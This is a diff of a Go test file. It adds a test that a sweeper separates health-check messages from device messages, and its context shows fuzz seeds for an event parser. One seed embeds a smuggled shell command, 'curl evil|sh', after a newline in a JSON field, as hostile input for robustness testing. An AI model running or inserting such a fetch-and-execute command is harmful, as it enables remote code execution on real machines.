@@ -63,6 +63,18 @@ func TestTheRulesStatementMakesEvents(t *testing.T) {
 	}
 }
 
+// A check's device vanishes on purpose, and does not come back.
+func TestAChecksClientIsNotTold(t *testing.T) {
+	t.Parallel()
+	s := Sweeper{Grace: time.Minute, Clock: time.Now}
+	check := Message{Body: []byte(`{"client":"` + will.NewCheckName(will.ThingName) + `"}`)}
+	device := Message{Body: []byte(`{"client":"pump-check-1"}`)}
+	arrivals, done := s.group([]Message{check, device})
+	if len(arrivals) != 1 || arrivals[0].item.Device != "pump-check-1" || len(done) != 1 {
+		t.Errorf("%v, %d messages are done", arrivals, len(done))
+	}
+}
+
 func FuzzParseEvent(f *testing.F) {
 	f.Add([]byte(`{"client":"pump-7","claimed":"pump-8","time":1795788131000}`))
 	f.Add([]byte(`{"client":"n/a","claimed":"a\nb;curl evil|sh","time":1e308}`))
